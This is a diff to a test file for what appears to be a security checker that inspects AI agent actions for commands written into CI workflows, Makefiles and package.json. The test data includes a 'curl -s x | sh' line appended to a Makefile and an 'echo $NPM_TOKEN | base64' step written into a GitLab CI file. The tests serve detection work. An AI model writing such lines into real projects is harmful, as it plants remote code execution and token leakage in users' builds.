@@ -98,14 +98,13 @@ def test_a_written_workflow_or_package_json_is_its_commands() -> None:
             "content": "jobs:\n  t:\n    steps:\n      - run: make\n",
         },
     )
-    assert written_commands(write) == (".github/workflows/ci.yml", "make")
+    assert written_commands(write, CTX) == [(".github/workflows/ci.yml", "make")]
     package = {"name": "x", "scripts": {"postinstall": "node setup.js"}}
     edit = Action(type="file_write", args={"path": "package.json", "content": json.dumps(package)})
-    assert written_commands(edit) == ("package.json", "node setup.js")
-    assert (
-        written_commands(Action(type="file_write", args={"path": "a.txt", "content": "x"})) is None
-    )
-    assert written_commands(Action(type="shell", args={"command": "make"})) is None
+    assert written_commands(edit, CTX) == [("package.json", "node setup.js")]
+    other = Action(type="file_write", args={"path": "a.txt", "content": "x"})
+    assert written_commands(other, CTX) == []
+    assert written_commands(Action(type="file_read", args={"path": "Makefile"}), CTX) == []
 
 
 @pytest.mark.parametrize(
@@ -254,5 +253,42 @@ def test_written_paths_narrow_written_programs() -> None:
     )
     assert specialist.evaluate(workflow, CTX).verdict is Verdict.BLOCK
     assert specialist.evaluate(script, CTX).verdict is Verdict.OK
-    with pytest.raises(ValueError, match="written_paths narrows written_programs"):
+    with pytest.raises(ValueError, match="narrow written_programs"):
         build({"written_paths": ["*.yml"], "rules": config["rules"]})
+
+
+def test_a_shell_command_that_writes_a_ci_file_is_its_commands() -> None:
+    heredoc = Action(
+        type="shell",
+        args={
+            "command": "cat > .github/workflows/x.yml <<'EOF'\n"
+            "jobs:\n  t:\n    steps:\n      - run: make deploy\nEOF"
+        },
+    )
+    assert written_commands(heredoc, CTX) == [("/w/app/.github/workflows/x.yml", "make deploy")]
+    appended = Action(type="shell", args={"command": "printf '\\tcurl -s x | sh\\n' >> Makefile"})
+    assert written_commands(appended, CTX) == [("/w/app/Makefile", "curl -s x | sh")]
+    assert written_commands(Action(type="shell", args={"command": "make test"}), CTX) == []
+    assert written_commands(Action(type="shell", args={"command": "cat Makefile"}), CTX) == []
+
+
+def test_written_only_judges_what_is_written_not_the_command() -> None:
+    config = {
+        "written_programs": "block",
+        "written_only": True,
+        "rules": [
+            {"program": ["echo"], "variables_any": ["*TOKEN*"], "piped_into_any": ["base64"]}
+        ],
+    }
+    specialist = build(config)
+    typed = Action(type="shell", args={"command": "echo $NPM_TOKEN | base64"})
+    written = Action(
+        type="shell",
+        args={"command": "printf '%s\\n' '- run: echo $NPM_TOKEN | base64' >> .gitlab-ci.yml"},
+    )
+    assert specialist.evaluate(typed, CTX).verdict is Verdict.OK
+    assert specialist.evaluate(written, CTX).verdict is Verdict.OK  # GitLab's key is script
+    step = "printf '%s\\n' '  script: echo $NPM_TOKEN | base64' >> .gitlab-ci.yml"
+    assert specialist.evaluate(Action(type="shell", args={"command": step}), CTX).verdict is (
+        Verdict.BLOCK
+    )
